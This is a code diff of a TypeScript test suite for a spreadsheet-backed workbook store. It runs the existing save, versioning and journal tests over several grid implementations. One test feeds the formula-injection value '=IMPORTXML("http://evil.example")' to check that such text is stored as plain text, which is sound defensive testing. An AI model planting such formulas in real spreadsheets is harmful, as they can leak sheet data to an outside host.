@@ -2,8 +2,10 @@ import { Fault } from '../../src/fault';
 import { derivedTabs, tabs } from '../../src/store/tables';
 import type { Change, Plan, Workbook } from '../../src/store/workbook';
 import { aContact, aMeasure, aMeeting, anAccount, anActivity, aSignal, aTeammate, monday9 } from '../support/builders';
+import { grids } from '../support/grids';
 import { refused } from '../support/memory-grid';
 import { aSetUpBench, type Bench } from '../support/store';
+import type { TestGrid } from '../support/test-grid';
 
 const by = { by: 'mina@orbit.example', at: monday9, action: 'flagSignal' } as const;
 const acme = anAccount();
@@ -11,8 +13,8 @@ const zeta = anAccount({ id: 'acc_zeta', name: 'Zeta', domains: ['zeta.example']
 const signal = aSignal();
 const action: Plan = { account: 'acc_acme', tables: ['signals'], freshTeam: true };
 
-function aFilledBench(): Bench {
-  const bench = aSetUpBench();
+function aFilledBench(grid: TestGrid): Bench {
+  const bench = aSetUpBench(grid);
   bench.open().save({ ...by, action: 'import', add: { accounts: [zeta, acme] } });
   bench.open().rebuild(monday9);
   bench.open().load({ account: 'acc_acme' });
@@ -37,18 +39,18 @@ function codeOf(work: () => void): string {
   return 'none';
 }
 
-const rowsOf = (bench: Bench, tab: keyof typeof tabs) => bench.grid.tab(tabs[tab].sheetId).cells.slice(2);
+const rowsOf = (bench: Bench, tab: keyof typeof tabs) => bench.grid.cells(tabs[tab].sheetId).slice(2);
 const column = (tab: 'accounts' | 'signals' | 'team', key: string) => (bench: Bench) =>
-  bench.grid.tab(tabs[tab].sheetId).cells[0]?.indexOf(key) ?? -1;
+  bench.grid.cells(tabs[tab].sheetId)[0]?.indexOf(key) ?? -1;
 /** Without the lines of setting up and of the two imported accounts. */
 const journal = (bench: Bench) =>
   rowsOf(bench, 'journal')
     .slice(3)
     .map(([, by, action, table, id, before, after]) => [by, action, table, id, before, after]);
 
-describe('saving', () => {
+describe.each(grids)('saving %s', (_place, makeGrid) => {
   test('takes one read and one write for an action', () => {
-    const bench = aFilledBench();
+    const bench = aFilledBench(makeGrid());
     const change = {
       add: { signals: [signal], activities: [anActivity()] },
       links: [{ key: 'msg:1', account: 'acc_acme' as const }],
@@ -57,7 +59,7 @@ describe('saving', () => {
   });
 
   test('shows the rows on their tabs, in the dossier and in the index', () => {
-    const bench = aFilledBench();
+    const bench = aFilledBench(makeGrid());
     click(
       bench,
       { ...action, find: ['msg:1'] },
@@ -74,24 +76,24 @@ describe('saving', () => {
   });
 
   test('raises the version and writes only what differs, so that other cells of the row stay as people left them', () => {
-    const bench = aFilledBench();
+    const bench = aFilledBench(makeGrid());
     bench.grid.set(tabs.accounts.sheetId, 3, column('accounts', 'domains')(bench), 'ACME.example');
     const before = bench.open().load(action).account;
     click(bench, action, { update: { accounts: [{ ...acme, ...before, plan: 'Enterprise' }] } });
     expect(bench.open().load(action).account).toEqual({ ...acme, plan: 'Enterprise', rev: 2 });
-    expect(bench.grid.tab(tabs.accounts.sheetId).cells[3]?.[column('accounts', 'domains')(bench)]).toBe('ACME.example');
+    expect(bench.grid.cells(tabs.accounts.sheetId)[3]?.[column('accounts', 'domains')(bench)]).toBe('ACME.example');
     expect(journal(bench)).toEqual([
       ['mina@orbit.example', 'flagSignal', 'accounts', 'acc_acme', '{"plan":"Growth"}', '{"plan":"Enterprise"}'],
     ]);
   });
 
   test('leaves a row alone that is as it shall be', () => {
-    const bench = aFilledBench();
+    const bench = aFilledBench(makeGrid());
     expect(bench.calls(() => click(bench, action, { update: { accounts: [acme] } }))).toEqual({ reads: 1, writes: 0 });
   });
 
   test('refuses a row that somebody changed meanwhile, and writes nothing of the change', () => {
-    const bench = aFilledBench();
+    const bench = aFilledBench(makeGrid());
     const stale = { ...acme, rev: 7, plan: 'Enterprise' };
     expect(codeOf(() => click(bench, action, { add: { signals: [signal] }, update: { accounts: [stale] } }))).toBe(
       'stale-row',
@@ -100,12 +102,12 @@ describe('saving', () => {
   });
 
   test('refuses a row that is not there', () => {
-    const bench = aFilledBench();
+    const bench = aFilledBench(makeGrid());
     expect(codeOf(() => click(bench, action, { update: { signals: [signal] } }))).toBe('missing-row');
   });
 
   test('adds nothing twice when a click comes again', () => {
-    const bench = aFilledBench();
+    const bench = aFilledBench(makeGrid());
     const change = { add: { signals: [signal], activities: [anActivity()] } };
     click(bench, action, change);
     expect(bench.calls(() => click(bench, action, change))).toEqual({ reads: 1, writes: 0 });
@@ -115,7 +117,7 @@ describe('saving', () => {
   });
 
   test('adds nothing twice when the answer of the first try was lost', () => {
-    const bench = aFilledBench();
+    const bench = aFilledBench(makeGrid());
     const workbook = bench.open();
     workbook.load(action);
     bench.grid.fail('lost');
@@ -125,7 +127,7 @@ describe('saving', () => {
   });
 
   test('applies nothing when Google refuses', () => {
-    const bench = aFilledBench();
+    const bench = aFilledBench(makeGrid());
     const workbook = bench.open();
     workbook.load(action);
     bench.grid.fail(refused(403, 'The caller does not have permission'));
@@ -134,7 +136,7 @@ describe('saving', () => {
   });
 
   test('finds its row after somebody sorted the tab between two clicks', () => {
-    const bench = aFilledBench();
+    const bench = aFilledBench(makeGrid());
     click(bench, action, { add: { signals: [signal, aSignal({ id: 'sig_2', need: 'A second lab' })] } });
     bench.grid.sort(tabs.signals.sheetId, column('signals', 'need')(bench));
     bench.grid.insertColumn(tabs.signals.sheetId, 2);
@@ -151,15 +153,15 @@ describe('saving', () => {
   });
 
   test('keeps the columns that people added, and what they hold', () => {
-    const bench = aFilledBench();
+    const bench = aFilledBench(makeGrid());
     bench.grid.insertColumn(tabs.accounts.sheetId, 0);
     bench.grid.set(tabs.accounts.sheetId, 3, 0, 'our own');
     click(bench, action, { update: { accounts: [{ ...acme, plan: 'Enterprise' }] } });
-    expect(bench.grid.tab(tabs.accounts.sheetId).cells[3]?.[0]).toBe('our own');
+    expect(bench.grid.cells(tabs.accounts.sheetId)[3]?.[0]).toBe('our own');
   });
 
   test('writes a text that looks like a formula as text', () => {
-    const bench = aFilledBench();
+    const bench = aFilledBench(makeGrid());
     click(bench, action, { add: { signals: [aSignal({ need: '=IMPORTXML("http://evil.example")' })] } });
     const sent = JSON.stringify(bench.grid.calls.requests);
     expect(sent.includes('formulaValue')).toBe(false);
@@ -167,9 +169,9 @@ describe('saving', () => {
   });
 });
 
-describe('two writes of one execution', () => {
+describe.each(grids)('two writes of one execution %s', (_place, makeGrid) => {
   test('need no read between them: a sync is reserved, then booked', () => {
-    const bench = aFilledBench();
+    const bench = aFilledBench(makeGrid());
     const plan: Plan = { account: 'acc_acme', tables: ['meetings'], freshTeam: true };
     const meeting = aMeeting({ account: 'acc_acme', state: 'reserved' });
     const book = (workbook: Workbook) => {
@@ -189,7 +191,7 @@ describe('two writes of one execution', () => {
   });
 
   test('follow the account as the first one left it', () => {
-    const bench = aFilledBench();
+    const bench = aFilledBench(makeGrid());
     const workbook = bench.open();
     workbook.load(action);
     workbook.save({ ...by, update: { accounts: [{ ...acme, plan: 'A' }] } });
@@ -198,9 +200,9 @@ describe('two writes of one execution', () => {
   });
 });
 
-describe('what follows from a change', () => {
+describe.each(grids)('what follows from a change %s', (_place, makeGrid) => {
   test('marks the health of the account on its row', () => {
-    const bench = aFilledBench();
+    const bench = aFilledBench(makeGrid());
     click(bench, action, { add: { measures: [aMeasure()] } });
     expect(
       bench
@@ -214,7 +216,7 @@ describe('what follows from a change', () => {
   });
 
   test('leads an address to its account from the next mail on, and one of nobody to nobody', () => {
-    const bench = aFilledBench();
+    const bench = aFilledBench(makeGrid());
     const find = ['jana@gmail.com', 'spam@else.example'];
     bench.open().load({ find });
     click(
@@ -246,7 +248,7 @@ describe('what follows from a change', () => {
   });
 
   test('gives an account without a dossier one, in the same write', () => {
-    const bench = aSetUpBench();
+    const bench = aSetUpBench(makeGrid());
     bench.open().save({ ...by, add: { accounts: [zeta, acme] } });
     click(bench, action, { add: { signals: [signal] } });
     click(
@@ -254,7 +256,7 @@ describe('what follows from a change', () => {
       { ...action, account: 'acc_zeta' },
       { add: { signals: [aSignal({ id: 'sig_2', account: 'acc_zeta' })] } },
     );
-    expect(bench.grid.tab(derivedTabs.dossiers).cells.map((cells) => cells[0])).toEqual([
+    expect(bench.grid.cells(derivedTabs.dossiers).map((cells) => cells[0])).toEqual([
       'account',
       'acc_acme',
       'acc_zeta',
@@ -263,7 +265,7 @@ describe('what follows from a change', () => {
   });
 
   test('shows a change of team and settings to everybody at once', () => {
-    const bench = aFilledBench();
+    const bench = aFilledBench(makeGrid());
     bench.open().load({});
     click(bench, {}, { settings: { bufferMinutes: 15, freeDomains: ['mail.example'] }, add: { team: [aTeammate()] } });
     const { settings, team } = bench.open().load({});
@@ -275,7 +277,7 @@ describe('what follows from a change', () => {
   });
 
   test('finds a teammate whose address somebody typed in capitals', () => {
-    const bench = aFilledBench();
+    const bench = aFilledBench(makeGrid());
     click(bench, {}, { add: { team: [aTeammate()] } });
     bench.grid.set(tabs.team.sheetId, 3, 0, 'Mina@Orbit.Example');
     click(bench, {}, { update: { team: [aTeammate({ role: 'lead' })] } });
@@ -291,7 +293,7 @@ describe('what follows from a change', () => {
   });
 
   test('tells an import of many rows to the journal in one line', () => {
-    const bench = aSetUpBench();
+    const bench = aSetUpBench(makeGrid());
     const accounts = Array.from({ length: 60 }, (_, at) => anAccount({ id: `acc_${at}`, domains: [] }));
     bench.open().save({ ...by, action: 'import', add: { accounts } });
     expect(
